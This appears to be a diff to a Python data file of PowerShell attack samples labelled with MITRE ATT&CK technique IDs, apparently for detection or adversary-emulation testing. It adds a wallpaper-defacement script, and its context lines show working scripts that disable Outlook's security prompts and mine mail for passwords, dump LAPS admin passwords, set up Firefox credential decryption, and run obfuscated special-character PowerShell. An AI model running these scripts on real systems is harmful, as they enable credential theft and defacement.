@@ -147,11 +147,13 @@ M["powershell"][1].update({
     "outlook-guard.ps1": "$key = 'HKLM:\\SOFTWARE\\Microsoft\\Office\\16.0\\Outlook\\Security'\nNew-ItemProperty $key -Name ObjectModelGuard -Value 2 -PropertyType DWORD -Force\nSet-ItemProperty $key -Name PromptOOMSend -Value 2\n$o = New-Object -ComObject Outlook.Application\n$mapi = $o.GetNamespace('MAPI')\n$mapi.GetDefaultFolder(6).Items | Where-Object { $_.Body -match 'password' } | Select-Object Subject, Body\n",
     "laps-all.ps1": "$s = New-Object System.DirectoryServices.DirectorySearcher\n$s.Filter = '(&(objectCategory=computer)(ms-mcs-admpwdexpirationtime=*))'\n$s.PageSize = 500\n$s.FindAll() | ForEach-Object { [pscustomobject]@{ Host = $_.Properties['dnshostname'][0]; Password = $_.Properties['ms-mcs-admpwd'][0] } }\n",
     "browsercred-nss.ps1": "Add-Type @\"\nusing System; using System.Runtime.InteropServices;\npublic class Nss { [DllImport(\"nss3.dll\")] public static extern long NSS_Init(string dir); [DllImport(\"nss3.dll\")] public static extern int PK11SDR_Decrypt(ref TSECItem i, ref TSECItem o, int cx); }\n\"@\n$p = Get-ChildItem \"$env:APPDATA\\Mozilla\\Firefox\\Profiles\" | Select-Object -First 1\n[Nss]::NSS_Init($p.FullName)\n$logins = Get-Content (Join-Path $p.FullName 'logins.json') | ConvertFrom-Json\n",
+    "wallpaper-b64.ps1": "$WallpaperData = '%s'\n$p = \"$env:TEMP\\w.jpg\"\nSet-Content -Value ([Convert]::FromBase64String($WallpaperData)) -Encoding Byte -Path $p\nAdd-Type @\"\nusing System.Runtime.InteropServices;\npublic class W { [DllImport(\"user32.dll\", CharSet = CharSet.Auto)] public static extern int SystemParametersInfo(int a, int b, string c, int d); }\n\"@\n[W]::SystemParametersInfo(20, 0, $p, 3)\n" % base64.b64encode(b"\xff\xd8\xff\xe0" + bytes(60)).decode(),
     "specialchar.ps1": "${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};${\"}=\"[\"+\"$(@{})\"[${)}]+\"$(@{})\"[\"${+}${|}\"]+\"$(@{})\"[\"${@}${=}\"]+\"$?\"[${+}]+\"]\";${;}=\"\".(\"$(@{})\"[\"${+}${[}\"]+\"$(@{})\"[\"${+}${(}\"]+\"$(@{})\"[${=}]+\"$(@{})\"[${[}]+\"$?\"[${+}]+\"$(@{})\"[${.}]);${;}=\"$(@{})\"[\"${+}${[}\"]+\"$(@{})\"[${[}]+\"${;}\"[\"${@}${)}\"];\"${\"}${+}${=}${+}+${\"}${+}${=}${]}\"|&${;}\n",
 })
 IDS.update({"clip": "T1115", "screen": "T1113", "stager": "T1071.001", "msil": "T1620",
             "ghexfil": "T1567.001", "zerologon": "T1210", "arp": "T1018", "outlook": "T1114.001",
-            "laps": "T1552", "browsercred": "T1555.003", "specialchar": "T1027"})
+            "laps": "T1552", "browsercred": "T1555.003", "specialchar": "T1027",
+            "wallpaper": "T1491.001"})
 
 
 def ids_of(cls, name, default):
